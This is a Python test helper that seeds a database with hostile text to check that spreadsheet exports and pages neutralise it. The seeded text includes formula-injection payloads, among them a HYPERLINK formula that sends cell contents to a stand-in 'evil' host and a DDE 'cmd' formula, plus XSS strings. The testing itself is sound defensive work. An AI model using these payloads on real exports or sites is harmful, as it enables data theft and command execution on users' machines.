"""Text that has broken exports and pages: formula starts, characters XML cannot hold,
markup. Tests store these directly in the database, as a record may already hold them
whatever the gate accepts today."""

from __future__ import annotations

import io
import itertools
import zipfile
from collections.abc import Sequence
from typing import Any

import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from schema.export import export
from sync.db.tables import communities, records, squads, users

FORMULAS = (
    '=HYPERLINK("http://evil/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
)
CONTROLS = (
    "响铃\x01\x07\x1b结束",
    "垂直制表\x0b\x0c\x1f",
    "非字符\ufffe\uffff",
    "C1\x85\x9b控制",
    "换行\r\n回车\r完",
)
MARKUP = (
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "\u202e倒序\u202c文字",
)
# Every backend stores these; NUL and lone surrogates (which PostgreSQL refuses) are left
# to the pure tests.
HOSTILE = FORMULAS + CONTROLS + MARKUP


async def store_hostile_text(engine: AsyncEngine, texts: Sequence[str] = HOSTILE) -> None:
    """Every free-text field of every stored record, and every squad's, community's and
    person's name, set straight in the database to ``texts`` in turn (no gate in the
    way)."""
    text_types = {"text", "longtext", "text_list"}
    free_text = {k["kind"]: [(f["name"], f["type"]) for f in k["fields"]
                             if f["type"] in text_types
                             and not f["name"].endswith(("_id", "_kind", "day"))]
                 for k in export()["kinds"]}
    pool = itertools.cycle(texts)
    async with engine.begin() as conn:
        rows = (await conn.execute(sa.select(records.c.id, records.c.kind, records.c.fields)
                                   .order_by(records.c.id))).all()
        for record_id, kind, fields in rows:
            changed: dict[str, Any] = {
                name: [next(pool)] if field_type == "text_list" else next(pool)
                for name, field_type in free_text.get(kind, ())}
            if kind == "case":
                changed["category"] = next(pool)
            await conn.execute(records.update().where(records.c.id == record_id)
                               .values(fields={**fields, **changed}))
        for table in (squads, communities, users):
            ids = (await conn.execute(sa.select(table.c.id).order_by(table.c.id))).scalars()
            for row_id in list(ids):
                await conn.execute(table.update().where(table.c.id == row_id)
                                   .values(name=next(pool)))


def opened(response: Any) -> dict[str, list[tuple[Any, ...]]]:
    """The workbook's sheets as rows of values, after checking that it opens and holds no
    formula at all."""
    assert response.status_code == 200, response.text[:300]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(response.content))
    sheets = {}
    for sheet in book.worksheets:
        sheets[sheet.title] = [tuple(c.value for c in r) for r in sheet.iter_rows()]
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    return sheets


def cells(sheets: dict[str, list[tuple[Any, ...]]]) -> set[Any]:
    return {v for rows in sheets.values() for r in rows for v in r}

# What shows that markup from the table reached a page unescaped.
MARKUP_TELLS = ("<script>alert(", "<img src=x onerror")
